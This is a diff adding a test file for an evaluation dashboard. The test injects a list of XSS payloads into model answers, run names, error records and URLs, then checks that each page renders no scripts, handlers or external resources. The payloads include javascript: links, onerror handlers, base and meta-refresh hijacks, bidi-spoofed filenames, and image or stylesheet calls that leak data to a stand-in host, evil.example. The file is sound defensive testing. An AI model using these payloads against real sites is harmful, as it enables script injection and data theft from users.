@@ -1,0 +1,111 @@
+import { assertEquals } from "@std/assert";
+import { dashboardTest } from "./dashboard_page.ts";
+
+/** What a model, an archive or a user could say to whoever looks. */
+const PAYLOADS = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<img src=https://evil.example/leak.png>",
+  "![leak](https://evil.example/leak.png?secret)",
+  "[click](javascript:alert(1))",
+  "[click](JaVaScRiPt:alert(1))",
+  "[click](data:text/html,<script>alert(1)</script>)",
+  "[click](&#106;avascript:alert(1))",
+  "<javascript:alert(1)>",
+  "[ref]\n\n[ref]: javascript:alert(1)",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg onload=alert(1)>",
+  "<style>*{background:url(https://evil.example/)}</style>",
+  "<link rel=stylesheet href=https://evil.example/x.css>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "<base href=https://evil.example/>",
+  "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "</textarea></title></script><script>alert(1)</script>",
+  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+  "```html\n<script>alert(1)</script>\n```",
+  "`<img src=x onerror=alert(1)>`",
+  "{{constructor.constructor('alert(1)')()}}",
+  "safe \u202E gpj.exe \u2066 hidden \u2069",
+  "__proto__",
+];
+
+/** Elements that no word of a stranger may become. */
+const FORBIDDEN =
+  "script:not([src='dashboard.js']), img, iframe, object, embed, base, style, link:not([rel=icon], [href='dashboard.css']), meta[http-equiv=refresh i], [onerror], [onload], [href^='javascript' i], [href^='data' i]:not([rel=icon])";
+
+dashboardTest(
+  "whatever strangers say is shown and never obeyed",
+  async ({ page, project, open, expectAccessible }) => {
+    const { sql, model } = project;
+    model.configure({
+      answer: (prompt) => `${prompt}\n\n${PAYLOADS.join("\n\n")}`,
+    });
+    const id = await project.startRun({
+      type: "prompts",
+      prompts: PAYLOADS.map((text) => ({
+        text,
+        reference: text,
+        metadata: { note: text },
+        messages: [{ role: "assistant", content: text }],
+      })),
+    }, {
+      experiment_name: "<img src=x onerror=alert(1)> & co",
+      tags: ["<script>alert(1)</script>"],
+      evaluators: sql.json([{
+        type: "rouge-l",
+        name: "<b onclick=alert(1)>",
+      }]),
+      model: "<svg onload=alert(1)>",
+    });
+    await project.untilOver(id);
+    const other = await project.startRun(
+      { type: "prompts", prompts: PAYLOADS.slice(0, 5) },
+      { experiment_name: "<i>other</i>" },
+    );
+    await project.untilOver(other);
+    await sql`update evaluation_scores set explanation = ${
+      PAYLOADS.join("\n")
+    }`;
+    await sql`
+      insert into pipeline.task_errors (run_id, stage, class, code, message, place, key, final)
+      select ${id}, 'execute', 'permanent', 'code', payload, jsonb_build_object('path', payload), payload, true
+      from unnest(${PAYLOADS}::text[]) as payload
+    `;
+    const rows = await sql<{ id: number }[]>`
+      select id from prompt_evaluations where run_id = ${id} order by id
+    `;
+    const experiment = encodeURIComponent("<img src=x onerror=alert(1)> & co");
+    const places = [
+      "runs",
+      `runs?experiment=${experiment}`,
+      `runs/${id}`,
+      `runs/${id}/answers`,
+      `runs/${id}/answers?row=${rows[0].id}&markdown=1`,
+      `runs/${id}/answers?row=${rows[1].id}&diff=reference`,
+      `experiments/${experiment}/answers`,
+      "experiments",
+      `compare?baseline=${
+        encodeURIComponent("<i>other</i>")
+      }&candidate=${experiment}&show=all`,
+      "errors",
+      `errors?run=${id}&code=code`,
+      `errors?run=${id}&code=${encodeURIComponent(PAYLOADS[0])}`,
+      "project",
+      `${encodeURIComponent(PAYLOADS[1])}/x`,
+    ];
+    for (const place of places) {
+      await open(place);
+      assertEquals(await page.locator(FORBIDDEN).count(), 0, place);
+      await expectAccessible();
+    }
+    for (const { id: row } of rows) {
+      await open(`runs/${id}/answers?row=${row}&markdown=1`);
+      await page.getByRole("heading", { name: "Details" }).waitFor();
+      assertEquals(await page.locator(FORBIDDEN).count(), 0);
+    }
+    const shown = await page.locator("body").innerText();
+    assertEquals(/[\u202a-\u202e\u2066-\u2069]/.test(shown), false);
+  },
+);
